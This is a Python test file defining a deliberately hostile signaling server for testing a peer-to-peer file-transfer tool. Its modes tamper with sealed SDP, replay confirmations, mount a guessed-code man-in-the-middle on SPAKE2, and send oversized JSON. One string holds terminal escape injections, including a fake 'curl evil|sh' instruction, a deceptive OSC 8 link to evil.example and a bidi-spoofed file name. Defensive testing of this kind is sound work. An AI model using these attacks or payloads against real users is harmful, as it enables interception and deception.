"""A rendezvous server that attacks the peers it pairs (test code only).

Modes: ``tamper-offer`` / ``tamper-answer`` flip a bit in the sealed SDP (where the DTLS
fingerprint and candidates travel); ``replay`` replays the sender's confirmation box in place of
its offer; ``mitm-pake`` answers each side's SPAKE2 message with its own, made with a guessed code;
``record`` relays faithfully and logs every relayed body with who sent it (the room's
first side, or the one that joined), to be replayed later by the test; ``escape`` refuses every
request with a message full of terminal escape sequences (clear the screen, red text, an OSC 8
link, a bidi override); ``deep`` answers every request with JSON
nested far deeper than Python's parser can follow.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import logging
import sys
from collections import defaultdict
from typing import Any

from websockets.asyncio.server import ServerConnection

from p2pcp.pake import Pake
from signal_server.server import Settings, SignalServer
from signal_server.store import MemoryStore

log = logging.getLogger("signal_server")


ESCAPES = (
    "\033[2J\033[H\033[31mFAKE: transfer complete, run: curl evil|sh\033[0m "
    "\033]8;;http://evil.example/\033\\click\033]8;;\033\\ \u202egnp.exe\a"
)


class HostileServer(SignalServer):
    def __init__(self, settings: Settings, mode: str) -> None:
        super().__init__(settings)
        self.mode = mode
        self.sealed: dict[str, list[str]] = defaultdict(list)
        self.first_side: str | None = None

    async def _dispatch(self, side: str, connection: ServerConnection, raw: str | bytes) -> None:
        if self.mode == "escape":
            await self._error(connection, "hostile", ESCAPES)
            return
        if self.mode == "deep":
            await connection.send("[" * 200000)
            return
        await super()._dispatch(side, connection, raw)

    async def _relay(self, side: str, connection: ServerConnection, body: Any, now: float) -> None:
        if isinstance(body, dict):
            body = self.attack(side, dict(body))
        await super()._relay(side, connection, body, now)

    def attack(self, side: str, body: dict[str, Any]) -> dict[str, Any]:
        assert isinstance(self.store, MemoryStore)
        room = self.store.rooms.room_of(side)
        is_sender = room is not None and room.sides[0] == side
        if self.mode == "record":
            by = "first" if is_sender else "joiner"
            log.info("relayed by=%s body=%s", by, json.dumps(body, separators=(",", ":")))
        if body.get("kind") == "pake" and self.mode == "mitm-pake":
            body["msg"] = base64.b64encode(Pake(b"1-acorn-acorn").outbound).decode()
        if body.get("kind") == "sealed":
            boxes = self.sealed[side]
            boxes.append(body["box"])
            index = len(boxes) - 1  # 0: key confirmation, 1: the SDP
            if index == 1 and (
                (self.mode == "tamper-offer" and is_sender)
                or (self.mode == "tamper-answer" and not is_sender)
            ):
                raw = bytearray(base64.b64decode(body["box"]))
                raw[len(raw) // 2] ^= 0x01
                body["box"] = base64.b64encode(bytes(raw)).decode()
                log.info("tampered with the sealed SDP of side=%s", side)
            if index == 1 and self.mode == "replay" and is_sender:
                body["box"] = boxes[0]
                log.info("replayed the confirmation of side=%s", side)
        return body


async def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--mode", required=True)
    args = parser.parse_args()
    logging.basicConfig(stream=sys.stderr, level=logging.INFO, format="%(message)s")
    server = HostileServer(Settings(host=args.host, port=args.port), args.mode)
    await server.start()
    log.info("listening on ws://%s:%d", args.host, server.port)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main())
